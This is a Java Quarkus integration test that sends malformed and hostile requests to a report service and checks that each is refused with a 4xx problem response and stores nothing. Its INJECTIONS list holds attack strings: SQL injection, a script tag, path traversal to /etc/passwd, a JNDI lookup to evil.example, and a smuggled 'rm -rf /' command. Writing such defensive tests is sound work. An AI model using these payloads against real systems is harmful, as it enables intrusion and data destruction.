package org.vigil.report.hostile;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.vigil.report.testing.ReportInfraResource.DEMO;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import org.junit.jupiter.api.Test;
import org.vigil.report.testing.ReportInfraResource;

/**
 * Hostile and malformed report requests against the running service (with the packaged ingest-service and
 * casefile-service behind it): every field of a valid request replaced by wrong JSON types, injections, impossible
 * dates and bad numbers, unknown fields, broken JSON, hostile ids and formats on the read endpoints. Each is answered
 * 4xx with an RFC 9457 problem, never 5xx, and no report is stored (the population's report list is the same after).
 */
@QuarkusTest
@QuarkusTestResource(ReportInfraResource.class)
class HostileInputTest {

    @org.junit.jupiter.api.BeforeEach
    void authenticate() {
        org.vigil.report.testing.Tokens.useEverywhere();
    }

    private static final ObjectMapper JSON = new ObjectMapper();

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE reports; --", "\" OR 1=1 --", "<script>alert(1)</script>", "../../../../etc/passwd",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "\u0000", "\u202Egnp.exe", "$(rm -rf /)", "😈😈", " ", "null");

    static final List<String> BAD_DATES = List.of("2009-02-30", "2009-13-01", "0000-00-00", "99999-01-01",
            "-2009-01-01", "2009-1-1", "20090101", "2009-01-01T00:00:00Z", "");

    @Test
    void hostile_report_requests_are_refused_with_problems_and_store_nothing() throws Exception {
        String listing = "/populations/" + DEMO + "/reports";
        String before = given().get(listing).then().statusCode(200).extract().asString();

        ObjectNode valid = JSON.createObjectNode().put("populationId", DEMO).put("asOf", "2016-12-31")
                .put("audience", "public").put("format", "markdown");
        valid.putObject("period").put("from", "2012-01-01").put("to", "2013-12-31");
        JsonNodeFactory f = JsonNodeFactory.instance;

        List<Object[]> attempts = new ArrayList<>(); // {description, method, path, body or null}
        for (String field : List.of("populationId", "asOf", "audience", "format", "logPosition", "period", "period.from", "period.to")) {
            List<JsonNode> values = new ArrayList<>(List.of(f.booleanNode(true), f.arrayNode().add("x"), f.objectNode().put("x", 1)));
            if (!field.equals("logPosition")) values.add(f.numberNode(12)); // 12 is a valid log position
            if (!field.equals("logPosition")) {
                for (String injection : INJECTIONS) values.add(f.textNode(injection));
            } else {
                for (String n : List.of("-1", "0", "1.5", "99999999999999999999999", "1e400")) values.add(f.rawValueNode(new com.fasterxml.jackson.databind.util.RawValue(n)));
                values.add(f.textNode("12"));
                values.add(f.numberNode(Long.MAX_VALUE));
            }
            if (field.equals("asOf") || field.startsWith("period.")) {
                for (String d : BAD_DATES) values.add(f.textNode(d));
            }
            for (JsonNode value : values) {
                ObjectNode body = valid.deepCopy();
                if (field.startsWith("period.")) ((ObjectNode) body.get("period")).set(field.substring(7), value);
                else body.set(field, value);
                attempts.add(new Object[] {field + " = " + value, "POST", "/reports", body.toString()});
            }
        }
        ObjectNode unknown = valid.deepCopy();
        unknown.put("colour", "red");
        attempts.add(new Object[] {"unknown field", "POST", "/reports", unknown.toString()});
        ObjectNode reversed = valid.deepCopy();
        reversed.putObject("period").put("from", "2013-12-31").put("to", "2012-01-01");
        attempts.add(new Object[] {"period ending before it begins", "POST", "/reports", reversed.toString()});
        ObjectNode unknownPopulation = valid.deepCopy().put("populationId", UUID.randomUUID().toString());
        attempts.add(new Object[] {"unknown population", "POST", "/reports", unknownPopulation.toString()});
        String text = valid.toString();
        for (String broken : List.of("", "null", "[]", "\"x\"", text.substring(0, text.length() / 2), text + "{}",
                "{\"populationId\":" + "[".repeat(2000) + "]".repeat(2000) + "}",
                text.replaceFirst("\\{", "{\"audience\":\"internal\","))) {
            attempts.add(new Object[] {"body " + abbreviate(broken), "POST", "/reports", broken});
        }
        for (String injection : INJECTIONS) {
            String p = URLEncoder.encode(injection, StandardCharsets.UTF_8);
            attempts.add(new Object[] {"GET report " + injection, "GET", "/reports/" + p, null});
            attempts.add(new Object[] {"verify report " + injection, "GET", "/reports/" + p + "/verify", null});
            attempts.add(new Object[] {"reports of " + injection, "GET", "/populations/" + p + "/reports", null});
            attempts.add(new Object[] {"unknown report format " + injection, "GET", "/reports/" + UUID.randomUUID() + "?format=" + p, null});
        }
        attempts.add(new Object[] {"DELETE reports", "DELETE", listing, null});
        attempts.add(new Object[] {"PUT a report", "PUT", "/reports/" + UUID.randomUUID(), "{}"});
        assertThat(attempts.size()).isGreaterThanOrEqualTo(150);

        List<String> failures = new ArrayList<>();
        for (Object[] a : attempts) {
            var spec = given().urlEncodingEnabled(false);
            if (a[3] != null) spec = spec.contentType("application/json").body(((String) a[3]).getBytes(StandardCharsets.UTF_8));
            Response r = spec.when().request((String) a[1], (String) a[2]);
            int status = r.statusCode();
            String type = r.contentType() == null ? "" : r.contentType();
            if (status < 400 || status >= 500) {
                failures.add(status + " for " + a[0] + ": " + abbreviate(r.asString()));
            } else if (!type.startsWith("application/problem+json")) {
                failures.add(status + " without problem+json (" + type + ") for " + a[0]);
            } else {
                JsonNode problem = JSON.readTree(r.asString());
                if (!problem.hasNonNull("type") || !problem.hasNonNull("title") || problem.path("status").asInt() != status) {
                    failures.add("incomplete problem for " + a[0] + ": " + abbreviate(r.asString()));
                }
            }
        }
        System.out.printf("hostile-input suite (report): %d requests, %d not refused properly%n", attempts.size(), failures.size());
        assertThat(failures).as("requests not answered 4xx problem+json (of " + attempts.size() + ")").isEmpty();
        assertThat(given().get(listing).then().statusCode(200).extract().asString()).as("the population's reports").isEqualTo(before);
    }

    private static String abbreviate(String s) {
        return s.length() > 200 ? s.substring(0, 200) + "..." : s;
    }
}
